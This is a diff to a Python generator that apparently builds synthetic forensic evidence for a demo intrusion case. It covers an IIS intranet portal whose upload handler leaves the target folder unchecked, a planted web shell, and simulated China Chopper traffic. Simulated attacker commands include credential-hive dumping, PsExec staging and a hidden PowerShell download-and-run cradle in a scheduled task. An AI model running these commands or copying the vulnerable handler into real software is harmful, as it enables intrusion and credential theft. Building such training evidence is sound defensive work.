+            if (context.Request.HttpMethod != "POST" || context.Request.Files.Count == 0)
+            {
+                context.Response.StatusCode = 400;
+                context.Response.Write("{\\"ok\\":false,\\"error\\":\\"no file\\"}");
+                return;
+            }
+            HttpPostedFile file = context.Request.Files[0];
+            string name = Path.GetFileName(file.FileName);
+            if (Array.IndexOf(Blocked, Path.GetExtension(name).ToLowerInvariant()) >= 0)
+            {
+                context.Response.StatusCode = 415;
+                context.Response.Write("{\\"ok\\":false,\\"error\\":\\"file type\\"}");
+                return;
+            }
+            // TODO(PORTAL-212): check the folder against the list of team folders
+            string folder = context.Request.Form["folder"] ?? "shared";
+            string root = context.Server.MapPath(ConfigurationManager.AppSettings["Upload.Folder"]);
+            string target = Path.Combine(root, folder);
+            Directory.CreateDirectory(target);
+            file.SaveAs(Path.Combine(target, name));
+            context.Response.Write(string.Format("{{\\"ok\\":true,\\"name\\":\\"{0}\\",\\"size\\":{1}}}",
+                HttpUtility.JavaScriptStringEncode(name), file.ContentLength));
+        }
+    }
+}
+"""
+
+_SITE_CSS = """/* CORP intranet portal */
+:root { --corp-blue: #0b3d6e; --corp-sea: #1f7a8c; --corp-sand: #f4efe6; --text: #1d1d1f; }
+* { box-sizing: border-box; }
+html, body { margin: 0; padding: 0; }
+body { font: 15px/1.5 "Segoe UI", Arial, sans-serif; color: var(--text); background: #fff; }
+a { color: var(--corp-sea); text-decoration: none; }
+a:hover, a:focus { text-decoration: underline; }
+header.top { display: flex; align-items: center; gap: 24px; padding: 10px 32px;
+  background: var(--corp-blue); color: #fff; }
+header.top img { height: 40px; display: block; }
+header.top input[type=search] { flex: 1; max-width: 420px; padding: 6px 10px; border: 0;
+  border-radius: 3px; font-size: 14px; }
+header.top .who { margin-left: auto; font-size: 13px; opacity: .85; }
+img.banner { display: block; width: 100%; height: 180px; object-fit: cover; }
+main { display: grid; grid-template-columns: 2fr 1fr; gap: 32px; padding: 24px 32px;
+  max-width: 1200px; margin: 0 auto; }
+main.search { display: block; max-width: 860px; }
+h1 { font-size: 26px; font-weight: 600; color: var(--corp-blue); margin: 0 0 16px; }
+h2 { font-size: 18px; font-weight: 600; margin: 0 0 6px; }
+article { padding: 14px 0; border-bottom: 1px solid #e3e3e3; }
+article time { display: block; font-size: 12px; color: #6b6b6b; margin-bottom: 4px; }
+aside.docs { background: var(--corp-sand); padding: 16px 20px; border-radius: 4px; }
+aside.docs ul { list-style: none; margin: 0 0 16px; padding: 0; }
+aside.docs li { padding: 4px 0 4px 22px; background: url(../images/favicon.png) no-repeat 0 6px;
+  background-size: 14px; }
+.upload { border-top: 1px solid #d8d0c0; padding-top: 12px; }
+.upload .status { display: block; font-size: 12px; margin-top: 6px; color: #6b6b6b; }
+.upload .status.error, .error { color: #b00020; }
+.query { width: 100%; padding: 8px 10px; font-size: 16px; margin-bottom: 16px; }
+.hit { padding: 10px 0; border-bottom: 1px solid #eee; }
+.hit p { margin: 2px 0 0; font-size: 13px; color: #4a4a4a; }
+body.login { background: var(--corp-sand); }
+body.login form { width: 340px; margin: 12vh auto 0; padding: 28px 32px; background: #fff;
+  border-radius: 6px; box-shadow: 0 2px 12px rgba(0, 0, 0, .12); }
+body.login label { display: block; font-size: 13px; margin: 12px 0 4px; }
+body.login input[type=text], body.login input[type=password] { width: 100%; padding: 7px 9px; }
+body.login input[type=submit] { margin-top: 18px; width: 100%; padding: 9px; border: 0;
+  background: var(--corp-blue); color: #fff; font-size: 15px; border-radius: 3px; cursor: pointer; }
+@media print { header.top, img.banner, aside.docs { display: none; } main { display: block; } }
+@media (max-width: 760px) { main { grid-template-columns: 1fr; padding: 16px; } }
+"""
+
+_SITE_JS = """/* CORP intranet portal: search box and document sharing. */
+(function () {
+  "use strict";
+
+  function ready(fn) {
+    if (document.readyState !== "loading") {
+      fn();
+    } else {
+      document.addEventListener("DOMContentLoaded", fn);
+    }
+  }
+
+  function share(box) {
+    var input = box.querySelector("input[type=file]");
+    var status = box.querySelector(".status");
+    if (!input.files.length) {
+      status.textContent = "Choose a file first.";
+      return;
+    }
+    var data = new FormData();
+    data.append("file", input.files[0]);
+    data.append("folder", box.getAttribute("data-folder") || "shared");
+    var xhr = new XMLHttpRequest();
+    xhr.open("POST", box.getAttribute("data-upload-url") || "Upload.ashx");
+    xhr.onload = function () {
+      var answer = {};
+      try {
+        answer = JSON.parse(xhr.responseText);
+      } catch (e) {
+        answer = { ok: false, error: "unexpected answer" };
+      }
+      status.className = answer.ok ? "status" : "status error";
+      status.textContent = answer.ok ? "Shared " + answer.name + "."
+                                     : "Not shared: " + answer.error;
+    };
+    status.textContent = "Uploading...";
+    xhr.send(data);
+  }
+
+  ready(function () {
+    var q = document.getElementById("q");
+    if (q) {
+      q.addEventListener("keydown", function (ev) {
+        if (ev.key === "Enter" && q.value.trim()) {
+          ev.preventDefault();
+          var term = encodeURIComponent(q.value.trim()).replace(/%20/g, "+");
+          window.location.href = "Search.aspx?q=" + term;
+        }
+      });
+    }
+    CorpUI.each(document.querySelectorAll(".upload"), function (box) {
+      box.querySelector("button").addEventListener("click", function () { share(box); });
+    });
+  });
+}());
+"""
+
+
+def _minified_library(rng: random.Random, size: int = 26_000) -> str:
+    """A minified-looking UI helper library (generated, deterministic for the generator)."""
+    letters = "abcdefghijklmnopqrstuvwxyz"
+    props = ("length", "style", "classList", "parentNode", "children", "dataset", "offsetTop",
+             "scrollTop", "textContent", "nodeType", "firstChild", "nextSibling", "value",
+             "checked", "className", "clientHeight", "offsetWidth")
+    methods = ("addEventListener", "removeEventListener", "querySelector", "querySelectorAll",
+               "getAttribute", "setAttribute", "appendChild", "removeChild", "insertBefore",
+               "contains", "toggle", "push", "slice", "indexOf", "replace", "split", "join",
+               "forEach", "call", "apply", "trim", "toLowerCase")
+    events = ("click", "keydown", "focus", "blur", "change", "input", "resize", "scroll")
+    api = ["each", "on", "off", "find", "closest", "attr", "data", "css", "show", "hide",
+           "toggleClass", "debounce", "throttle", "ready", "extend", "template", "escapeHtml",
+           "format", "parseDate", "modal", "tabs", "tooltip", "dropdown", "collapse", "fadeIn",
+           "fadeOut", "offset", "position", "serialize", "cookie", "store", "emit"]
+
+    def ident() -> str:
+        return rng.choice(letters) + (rng.choice(letters + "0123456789") if rng.random() < .4
+                                      else "")
+
+    parts = ['/*! CorpUI v3.2.1 | (c) CORP IT | internal use */\n!function(w,d){"use strict";'
+             'var o={version:"3.2.1"};']
+    n = 0
+    while sum(map(len, parts)) < size:
+        a, b, c, i, f = ident(), ident(), ident(), ident(), ident()
+        p, m, ev = rng.choice(props), rng.choice(methods), rng.choice(events)
+        name = api[n % len(api)] + ("" if n < len(api) else str(n // len(api)))
+        n += 1
+        parts.append(rng.choice((
+            f"function {f}({a},{b}){{return {a}&&{a}.{p}?{a}.{p}.{m}({b}):{b}}}",
+            f"function {f}({a}){{var {c}=[];for(var {i}=0;{i}<{a}.length;{i}++){c}.push({a}"
+            f"[{i}].{p});return {c}}}",
+            f'o.{name}=function({a},{b}){{{a}.{m}("{ev}",{b},!1);return o}};',
+            f"o.{name}=function({a},{b},{c}){{if(!{a})return o;for(var {i}=0;{i}<{a}.length;"
+            f"{i}++){b}.call({c},{a}[{i}],{i});return o}};",
+            f'o.{name}=function({a}){{return typeof {a}=="string"?d.{m}({a}):{a}}};',
+            f"var {c}=/^[a-z][\\w-]*$/i,{f}={rng.randrange(2, 900)};",
+            f"function {f}({a},{b}){{var {c}={a}.{p}||0;return {c}>{b}?{c}-{b}:{b}-{c}}}",
+        )))
+    parts.append("o.each=o.each||function(a,b){for(var i=0;i<a.length;i++)b(a[i],i)};"
+                 "w.CorpUI=o}(window,document);\n")
+    return "".join(parts)
+
+
+def _png(rng: random.Random, width: int, height: int, rgb: tuple[int, int, int],
+         grain: int) -> bytes:
+    """A valid RGB PNG: a diagonal gradient on ``rgb`` with some grain."""
+    raw = bytearray()
+    for y in range(height):
+        raw.append(0)
+        for x in range(width):
+            shade = (x + 2 * y) * 48 // (width + 2 * height)
+            noise = rng.randrange(grain) if grain else 0
+            raw += bytes(min(255, v + shade + noise) for v in rgb)
+
+    def chunk(kind: bytes, data: bytes) -> bytes:
+        body = kind + data
+        return len(data).to_bytes(4, "big") + body + zlib.crc32(body).to_bytes(4, "big")
+
+    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
+    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header)
+            + chunk(b"IDAT", zlib.compress(bytes(raw), 9)) + chunk(b"IEND", b""))
+
+
+def _pdf(title: str, lines: Sequence[str]) -> bytes:
+    """A one-page PDF with a title and lines of text."""
+
+    def esc(text: str) -> str:
+        return text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
+
+    content = (f"BT /F1 18 Tf 56 780 Td ({esc(title)}) Tj ET\nBT /F1 10 Tf 56 750 Td 14 TL\n"
+               + "".join(f"({esc(line)}) '\n" for line in lines) + "ET\n").encode("latin-1")
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
+        b"/Resources << /Font << /F1 5 0 R >> >> >>",
+        b"<< /Length %d >>\nstream\n" % len(content) + content + b"endstream",
+        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
+        f"<< /Title ({esc(title)}) /Producer (Microsoft: Print To PDF) >>".encode("latin-1"),
+    ]
+    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+    offsets = []
+    for n, body in enumerate(objects, 1):
+        offsets.append(len(out))
+        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
+    xref = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
+    out += b"".join(b"%010d 00000 n \n" % off for off in offsets)
+    out += (b"trailer\n<< /Size %d /Root 1 0 R /Info 6 0 R >>\nstartxref\n%d\n%%%%EOF\n"
+            % (len(objects) + 1, xref))
+    return bytes(out)
+
+
+def _dotnet_dll(rng: random.Random, built: datetime) -> bytes:
+    """Bytes shaped like a small .NET class library (MZ/PE headers, CLR metadata names)."""
+    stub = (b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21"
+            b"This program cannot be run in DOS mode.\r\r\n$")
+    dos = bytearray(0x80)
+    dos[0:0x40] = struct.pack("<2s13H8sHH20sI", b"MZ", 0x90, 3, 0, 4, 0, 0xFFFF, 0, 0xB8, 0,
+                              0, 0, 0x40, 0, b"\0" * 8, 0, 0, b"\0" * 20, 0x80)
+    dos[0x40:0x40 + len(stub)] = stub
+    coff = struct.pack("<4sHHIIIHH", b"PE\0\0", 0x14C, 3, int(built.timestamp()), 0, 0, 0xE0,
+                       0x2102)
+    optional = struct.pack("<HBBIII", 0x10B, 48, 0, 0x1000, 0x800, 0).ljust(0xE0, b"\0")
+    sections = b"".join(struct.pack("<8sIIIIIIHHI", name, vsize, va, raw, ptr, 0, 0, 0, 0, flags)
+                        for name, vsize, va, raw, ptr, flags in (
+                            (b".text", 0x0F54, 0x2000, 0x1000, 0x200, 0x60000020),
+                            (b".rsrc", 0x03A8, 0x4000, 0x400, 0x1200, 0x40000040),
+                            (b".reloc", 0x000C, 0x6000, 0x200, 0x1600, 0x42000040)))
+    head = bytes(dos) + coff + optional + sections
+    names = ("<Module>", "Portal.dll", "Corp.Portal.Data", "DocumentIndex", "SearchResult",
+             "SearchHit", "NewsFeed", "NewsItem", "Configure", "Search", "Latest", "Items",
+             "Total", "Title", "Url", "Snippet", "Summary", "Published", "SqlConnection",
+             "SqlCommand", "SqlParameterCollection", "AddWithValue", "ExecuteReader",
+             "System.Data.SqlClient", "System.Data", "System.Collections.Generic", "List`1",
+             "mscorlib", "System.Web", "System.Runtime.CompilerServices",
+             "CompilationRelaxationsAttribute", "AssemblyTitleAttribute",
+             "AssemblyFileVersionAttribute", "TargetFrameworkAttribute")
+    strings = b"\0" + b"\0".join(n.encode() for n in names) + b"\0"
+    user = "".join(f"{s}\0" for s in (
+        "SELECT TOP (@n) Title, Summary, Published FROM dbo.News ORDER BY Published DESC",
+        "EXEC dbo.SearchDocuments @q, @skip, @take", "@q", "@skip", "@take", "@n"))
+    meta = (b"BSJB\x01\x00\x01\x00\x00\x00\x00\x00\x0c\x00\x00\x00v4.0.30319\0\0"
+            + b"#~\0\0#Strings\0\0\0\0#US\0#GUID\0\0\0#Blob\0\0\0" + strings
+            + user.encode("utf-16-le") + bytes(rng.getrandbits(8) for _ in range(16)))
+    text = bytes(rng.getrandbits(8) for _ in range(0x300)) + meta
+    body = head.ljust(0x200, b"\0") + text.ljust(0x1000, b"\0")
+    rsrc = ("\0".join(("VS_VERSION_INFO", "StringFileInfo", "040904b0", "CompanyName", "CORP",
+                       "FileDescription", "CORP intranet portal data access", "FileVersion",
+                       "2.12.0.0", "ProductName", "Portal", "LegalCopyright", "CORP 2026"))
+            .encode("utf-16-le"))
+    return body + rsrc.ljust(0x400, b"\0") + bytes(0x200)
+
+
+@functools.lru_cache(maxsize=4)
+def _site_files(seed: int) -> dict[str, bytes]:
+    """The web root of WEB01 (C:\\inetpub\\wwwroot), path below it -> content."""
+    rng = random.Random(f"tidehunt-demo-webroot-{seed}")
+
+    def text(s: str) -> bytes:
+        return s.replace("\n", "\r\n").encode("utf-8")
+
+    menu = [f"{day}: {rng.choice(('Laksa', 'Lamb curry', 'Fish and chips', 'Pumpkin soup'))}"
+            f", {rng.choice(('garden salad', 'roast vegetables', 'steamed rice'))}"
+            for day in ("Monday", "Tuesday", "Wednesday", "Thursday", "Friday")]
+    return {
+        "iisstart.htm": text(_IISSTART),
+        "iisstart.png": _png(rng, 240, 150, (0, 96, 180), 6),
+        "Default.aspx": text(_ROOT_DEFAULT),
+        "web.config": text(_ROOT_CONFIG),
+        "Portal/web.config": text(_PORTAL_CONFIG),
+        "Portal/Global.asax": text(_GLOBAL_ASAX),
+        "Portal/Default.aspx": text(_PORTAL_DEFAULT),
+        "Portal/Login.aspx": text(_PORTAL_LOGIN),
+        "Portal/Search.aspx": text(_PORTAL_SEARCH),
+        "Portal/Upload.ashx": text(_PORTAL_UPLOAD),
+        "Portal/bin/Portal.dll": _dotnet_dll(rng, _SITE_RELEASES[3][0]),
+        "Portal/css/site.css": text(_SITE_CSS),
+        "Portal/js/site.js": text(_SITE_JS),
+        "Portal/js/vendor.min.js": _minified_library(rng).encode("ascii"),
+        "Portal/images/logo.png": _png(rng, 160, 40, (11, 61, 110), 0),
+        "Portal/images/banner.png": _png(rng, 320, 90, (31, 110, 130), 24),
+        "Portal/images/search.png": _png(rng, 16, 16, (60, 60, 60), 0),
+        "Portal/images/favicon.png": _png(rng, 32, 32, (11, 61, 110), 0),
+        "Portal/uploads/shared/Canteen_Menu_October.pdf": _pdf("Canteen menu - October", menu),
+        "Portal/uploads/shared/IT_Helpdesk_Guide.pdf": _pdf("IT helpdesk guide", [
+            "Call extension 4357 or write to helpdesk@corp.example.",
+            "Password resets: use the self-service page on the intranet.",
+            "New starters: your manager requests your account two weeks ahead.",
+            "Printers: send jobs to the FollowMe queue and badge in at any printer."]),
+        "Portal/uploads/shared/Travel_Claim_Form_2026.pdf": _pdf("Travel claim form 2026", [
+            "Name:", "Cost centre:", "Dates of travel:", "Purpose:",
+            "Attach receipts for every item above AUD 30.", "Approver signature:"]),
+        "aspnet_client/system_web/logo.aspx": text(_WEBSHELL_TEXT),
+    }
+
+
+def _site_times(seed: int) -> dict[str, datetime]:
+    """Modification time of every file and folder of the web root."""
+    rng = random.Random(f"tidehunt-demo-webroot-times-{seed}")
+    times: dict[str, datetime] = {}
+    for start, names in _SITE_RELEASES:
+        t = start
+        for name in names:
+            times[name] = t
+            t += timedelta(seconds=rng.uniform(0.4, 40), microseconds=rng.randrange(10**6))
+    times["aspnet_client/system_web/logo.aspx"] = STAGES[3].time
+    # a folder was made with its first entry; its time is that of its newest direct entry
+    made: dict[str, datetime] = {}
+    for name, t in times.items():
+        parent = name.rpartition("/")[0]
+        while parent:
+            made[parent] = min(made.get(parent, t), t)
+            parent = parent.rpartition("/")[0]
+    folders: dict[str, datetime] = {}
+    for name in [*times, *made]:
+        parent = name.rpartition("/")[0]
+        if parent and parent not in times:
+            when = times[name] if name in times else made[name]
+            folders[parent] = max(folders.get(parent, when), when)
+    return {**folders, **times}
+
+
+def write_demo_webroot(out_dir: Path, *, seed: int = DEFAULT_SEED) -> list[Path]:
+    """Write WEB01's web root (``C:\\inetpub\\wwwroot``) as the responders copied it.
+
+    A small ASP.NET intranet portal (``Portal/``, deployed with msdeploy) and the web shell
+    the actor planted through its upload handler, ``aspnet_client/system_web/logo.aspx``.
+    File times are set: the clean files before the window, the shell when w3wp wrote it.
+
+    Args:
+        out_dir: Folder standing for ``C:\\inetpub\\wwwroot``; created if missing.
+        seed: Seed of the generated content (images, library, DLL bytes) and file times.
+
+    Returns:
+        The files written, sorted by path.
+    """
+    files = _site_files(seed)
+    times = _site_times(seed)
+    written = []
+    for name in sorted(files):
+        path = out_dir.joinpath(*name.split("/"))
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_bytes(files[name])
+        written.append(path)
+    for name in _SITE_EMPTY_DIRS:
+        out_dir.joinpath(*name.split("/")).mkdir(parents=True, exist_ok=True)
+    for name in sorted(times, key=lambda n: -n.count("/")):  # folders after their entries
+        stamp = times[name].timestamp()
+        os.utime(out_dir.joinpath(*name.split("/")), (stamp, stamp))
+    return written
 
 
 # --------------------------------------------------------------------------- domain controller
@@ -1225,15 +2248,171 @@ def _stage_persistence(case: _Case, ws: _WorkstationState, beacon: _Proc) -> _Pr
     return run
 
 
+# --------------------------------------------------------------------------- web intrusion (IIS)
+
+
+_CHOPPER_AGENT: Final = "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)"
+_PROBE_AGENT: Final = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, "
+                       "like Gecko) Chrome/118.0.0.0 Safari/537.36")
+_EXPLOIT_AGENT: Final = "python-requests/2.31.0"
+_PSEXEC_BYTES: Final = 833_472
+
+#: What a command sent through the shell prints and how long it runs:
+#: (text in the command, output bytes range, seconds range); first match wins.
+_SHELL_OUTPUT: Final[tuple[tuple[str, tuple[int, int], tuple[float, float]], ...]] = (
+    ("whoami", (21, 21), (0.05, 0.15)),
+    ('net group "domain admins"', (540, 720), (0.4, 0.9)),
+    ("ipconfig /all", (1900, 2400), (0.1, 0.3)),
+    ("nltest", (240, 320), (0.2, 0.5)),
+    ("systeminfo", (2700, 3300), (2.2, 3.8)),
+    ("net user /domain", (1300, 1900), (0.4, 0.9)),
+    ("tasklist /fi", (300, 330), (0.3, 0.6)),
+    ("tasklist", (11000, 15000), (1.4, 2.6)),
+    ("netstat", (5400, 7600), (0.3, 0.8)),
+    ("minidump", (0, 0), (2.3, 3.1)),
+    ("reg save", (39, 39), (1.1, 1.9)),
+    ("psexec64", (620, 860), (9.4, 10.6)),
+)
+#: China Chopper's frame around command output: ->| output [S] cwd [E] |<-
+_SHELL_FRAME: Final = len("->|" + "[S]\r\n" + _SHELL_DIR[:-1] + "\r\n[E]\r\n" + "|<-")
+
+
+def _page_bytes(body: int) -> int:
+    """sc-bytes of a dynamic answer: headers (Cache-Control, X-AspNet-Version ...) + body."""
+    return 262 + len(str(body)) + body
+
+
+def _static_bytes(body: int) -> int:
+    """sc-bytes of a static file: headers (Last-Modified, ETag, Accept-Ranges ...) + body."""
+    return 318 + len(str(body)) + body
+
+
+def _redirect_bytes(location: str, cookie: int = 0) -> int:
+    """sc-bytes of a 302 with ASP.NET's "Object moved" body (and a Set-Cookie header)."""
+    body = 131 + len(location)
+    return 244 + len(location) + len(str(body)) + body + cookie
+
+
+_NOT_MODIFIED_BYTES: Final = 211
+#: IIS's own error pages (static handler), and ASP.NET's answer for a missing page.
+_IIS_404_BYTES: Final = 1419
+_ASPNET_404_BYTES: Final = 1598
+_IIS_403_BYTES: Final = 1379
+
+
+def _chopper_received(case: _Case, argument: str) -> int:
+    """cs-bytes of a China Chopper POST: headers, the caller script, the base64 argument."""
+    arg = base64.b64encode(argument.encode("utf-8")).decode("ascii")
+    quoted = len(arg) + 2 * sum(arg.count(c) for c in "+/=")
+    return (case.iis.rng.randrange(196, 214) + len(_CHOPPER_FIELD) + 1 + 231
+            + len("&z1=Y21k&z2=") + quoted)
+
+
+def _chopper_post(case: _Case, ts: datetime, *, output: int, received: int,
+                  seconds: float) -> None:
+    """One request to the web shell; its answer carries ``output`` bytes."""
+    case.iis.add(ts, "POST", WEBSHELL_URI, client=ACTOR_WEB_IP, agent=_CHOPPER_AGENT,
+                 sent=_page_bytes(output), received=received, taken_ms=round(seconds * 1000))
+
+
+def _chopper_command(case: _Case, ts: datetime, line: str, command: str) -> None:
+    """The POST that makes w3wp start ``cmd.exe /c line`` at ``ts`` (100-600 ms later)."""
+    rng = case.iis.rng
+    text = command.lower()
+    out, secs = next(((o, s) for key, o, s in _SHELL_OUTPUT if key in text),
+                     ((200, 2000), (0.2, 1.0)))
+    lead = rng.uniform(0.1, 0.6)
+    _chopper_post(case, ts - timedelta(seconds=lead), output=_SHELL_FRAME + rng.randint(*out),
+                  received=_chopper_received(case, line), seconds=lead + rng.uniform(*secs))
+
+
+def _chopper_download(case: _Case, ts: datetime, path: str, size: int) -> datetime:
+    """The shell's file manager sends a file back; returns when the answer ended."""
+    seconds = 0.2 + size / case.iis.rng.uniform(3.5e6, 6.5e6)
+    _chopper_post(case, ts, output=size + 6, received=_chopper_received(case, path),
+                  seconds=seconds)
+    return ts + timedelta(seconds=seconds)
+
+
+def _chopper_upload(case: _Case, written: datetime, path: str, size: int) -> None:
+    """The shell's file manager receives a file (hex in the body) that w3wp writes."""
+    upload = 0.1 + 2 * size / case.iis.rng.uniform(4.0e5, 6.0e5)
+    _chopper_post(case, written - timedelta(seconds=upload), output=7,
+                  received=_chopper_received(case, path) + 2 * size, seconds=upload + 0.08)
+
+
+def _actor_probe(case: _Case, start: datetime) -> None:
+    """The actor looks at the portal, reads site.js, then tries upload handler names."""
+    rng = case.iis.rng
+    site = _site_files(case.seed)
+    login_url = "/Portal/Login.aspx?ReturnUrl=%2fPortal%2fDefault.aspx"
+    steps: tuple[tuple[str, str, int, int, int, int], ...] = (
+        # stem, query, status, substatus, win32, sc-bytes
+        ("/", "-", 302, 0, 0, _redirect_bytes("/Portal/Default.aspx")),
+        ("/Portal/Default.aspx", "-", 302, 0, 0, _redirect_bytes(login_url)),
+        ("/Portal/Login.aspx", "ReturnUrl=%2fPortal%2fDefault.aspx", 200, 0, 0,
+         _page_bytes(5241)),
+        ("/Portal/js/site.js", "-", 200, 0, 0, _static_bytes(len(site["Portal/js/site.js"]))),
+        ("/Portal/upload.aspx", "-", 404, 0, 0, _ASPNET_404_BYTES),
+        ("/Portal/FileUpload.ashx", "-", 404, 0, 0, _ASPNET_404_BYTES),
+        ("/Portal/UploadHandler.ashx", "-", 404, 0, 0, _ASPNET_404_BYTES),
+        ("/Portal/api/upload", "-", 404, 0, 2, _IIS_404_BYTES),
+        ("/Telerik.Web.UI.WebResource.axd", "type=rau", 404, 0, 0, _ASPNET_404_BYTES),
+        ("/Portal/Telerik.Web.UI.WebResource.axd", "type=rau", 404, 0, 0, _ASPNET_404_BYTES),
+        ("/Portal/admin/", "-", 404, 0, 2, _IIS_404_BYTES),
+        ("/Portal/App_Data/", "-", 404, 8, 0, _IIS_404_BYTES),
+        ("/Portal/web.config", "-", 404, 7, 0, _IIS_404_BYTES),
+        ("/Portal/uploads/", "-", 403, 14, 0, _IIS_403_BYTES),
+        (UPLOAD_URI, "-", 400, 0, 0, _page_bytes(31)),
+    )
+    t = start + timedelta(seconds=rng.uniform(0, 60))
+    for stem, query, status, sub, win32, sent in steps:
+        case.iis.add(t, "GET", stem, query=query, client=ACTOR_WEB_IP, agent=_PROBE_AGENT,
+                     status=status, substatus=sub, win32=win32, sent=sent,
+                     received=rng.randrange(430, 470) + len(stem) + len(query),
+                     taken_ms=rng.randrange(1, 40))
+        t += timedelta(seconds=rng.uniform(0.3, 2.5) if status >= 400 else rng.uniform(4, 25))
+
+
+def _actor_exploit(case: _Case, written: datetime) -> None:
+    """The upload that plants the shell (w3wp writes it at ``written``), then first contact."""
+    rng = case.iis.rng
+    shell = len(_site_files(case.seed)["aspnet_client/system_web/logo.aspx"])
+    lead = rng.uniform(2.2, 3.6)
+    answer = len(f'{{"ok":true,"name":"logo.aspx","size":{shell}}}')
+    case.iis.add(written - timedelta(seconds=lead), "POST", UPLOAD_URI, client=ACTOR_WEB_IP,
+                 agent=_EXPLOIT_AGENT, sent=_page_bytes(answer),
+                 received=rng.randrange(690, 720) + shell,
+                 taken_ms=round((lead + rng.uniform(0.03, 0.12)) * 1000))
+    # the first request compiles the page; with no field the shell answers nothing
+    case.iis.add(written + timedelta(seconds=rng.uniform(6, 9)), "GET", WEBSHELL_URI,
+                 client=ACTOR_WEB_IP, agent=_EXPLOIT_AGENT, sent=_page_bytes(0),
+                 received=rng.randrange(150, 170), taken_ms=rng.randrange(1600, 2600))
+    # China Chopper connects: server info, then a listing of the web root
+    _chopper_post(case, written + timedelta(seconds=rng.uniform(28, 34)),
+                  output=len("->|" + _SHELL_DIR + "\tC:\tD:\t|<-"),
+                  received=_chopper_received(case, ""), seconds=rng.uniform(0.05, 0.2))
+    _chopper_post(case, written + timedelta(seconds=rng.uniform(44, 52)),
+                  output=rng.randrange(380, 460),
+                  received=_chopper_received(case, "C:\\inetpub\\wwwroot\\"),
+                  seconds=rng.uniform(0.05, 0.2))
+
+
 def _shell_cmd(case: _Case, web: _WebState, ts: datetime, command: str) -> _Proc:
-    """One China Chopper style command through the web shell."""
-    return case.spawn(ts, web.w3wp, _SYS32 + "cmd.exe",
-                      f'cmd.exe /c cd /d "{_SHELL_DIR}"&{command}&echo [S]&cd&echo [E]',
-                      cwd=_SHELL_DIR)
+    """One China Chopper style command through the web shell.
+
+    The actor's POST to the shell reaches IIS 100-600 ms before w3wp starts cmd.exe; the
+    answer carries the command's output, so its size follows the command.
+    """
+    line = f'cd /d "{_SHELL_DIR}"&{command}&echo [S]&cd&echo [E]'
+    _chopper_command(case, ts, line, command)
+    return case.spawn(ts, web.w3wp, _SYS32 + "cmd.exe", f"cmd.exe /c {line}", cwd=_SHELL_DIR)
 
 
 def _stage_webshell(case: _Case, web: _WebState) -> None:
     t0 = STAGES[3].time
+    _actor_probe(case, t0 - timedelta(minutes=47))
+    _actor_exploit(case, t0)
     case.create_file(t0, web.w3wp, WEBSHELL_PATH)
     recon = (
         ("whoami", _SYS32 + "whoami.exe", "whoami", None),
@@ -1282,11 +2461,19 @@ def _stage_credentials(case: _Case, web: _WebState) -> None:
                          command.replace("reg ", "reg  ", 1))
         case.create_file(t + timedelta(seconds=1), reg, rf"C:\Windows\Temp\{hive[:2]}.tmp")
         t += timedelta(seconds=25)
+    # the shell's file manager takes the dump and the hives home
+    rng = case.iis.rng
+    t += timedelta(seconds=rng.uniform(10, 20))
+    for path, size in ((dump, rng.randrange(46_000_000, 58_000_000)),
+                       (r"C:\Windows\Temp\sa.tmp", 57_344),
+                       (r"C:\Windows\Temp\sy.tmp", rng.randrange(12_500_000, 16_500_000))):
+        t = _chopper_download(case, t, path, size) + timedelta(seconds=rng.uniform(6, 15))
 
 
 def _stage_lateral(case: _Case, web: _WebState) -> None:
     t0 = STAGES[5].time
     psexec = r"C:\Windows\Temp\PsExec64.exe"
+    _chopper_upload(case, t0 - timedelta(seconds=45), psexec, _PSEXEC_BYTES)
     case.create_file(t0 - timedelta(seconds=45), web.w3wp, psexec)
     remote = ('schtasks /create /tn "\\Microsoft\\Windows\\Maintenance\\SvcHealthCheck" /tr '
               "\\\"powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient)."
@@ -1377,19 +2564,25 @@ def _build(seed: int) -> _Case:
     _stage_staging(case, beacon)
     _stage_exfiltration(case, beacon)
     _stage_cleanup(case, beacon)
+    _web_traffic(case)
     return case
 
 
-def write_demo_evidence(out_dir: Path, *, seed: int = DEFAULT_SEED) -> list[Path]:
-    """Write the demo case's logs as JSON lines (one evtx_dump event per line).
+def write_demo_evidence(out_dir: Path, *, seed: int = DEFAULT_SEED,
+                        include_web_logs: bool = False) -> list[Path]:
+    """Write the demo case's logs: Windows events as JSON lines (one evtx_dump event per
+    line) and WEB01's IIS access logs (W3C extended, one file per UTC day, in
+    ``iis/W3SVC1/u_exYYMMDD.log``).
 
     Args:
         out_dir: Folder to write into; created if missing. Existing demo files are replaced.
         seed: Seed for the background noise, record details and jitter. The attack stages
             keep their times (see :func:`story`) for every seed.
+        include_web_logs: Also list the IIS logs in the result (they are always written).
 
     Returns:
-        The files written, in a fixed order.
+        The files written, in a fixed order: the five JSON files, then (if asked) the IIS
+        logs by day.
     """
     case = _build(seed)
     out_dir.mkdir(parents=True, exist_ok=True)
@@ -1399,7 +2592,14 @@ def write_demo_evidence(out_dir: Path, *, seed: int = DEFAULT_SEED) -> list[Path
         path = out_dir / name
         path.write_bytes(case.logs[name].render())
         written.append(path)
-    return written
+    iis_dir = out_dir.joinpath(*IIS_LOG_DIR.split("/"))
+    iis_dir.mkdir(parents=True, exist_ok=True)
+    web_logs = []
+    for name, content in case.iis.render().items():
+        path = iis_dir / name
+        path.write_bytes(content)
+        web_logs.append(path)
+    return written + web_logs if include_web_logs else written
 
 
 def main(argv: Sequence[str] | None = None) -> int:
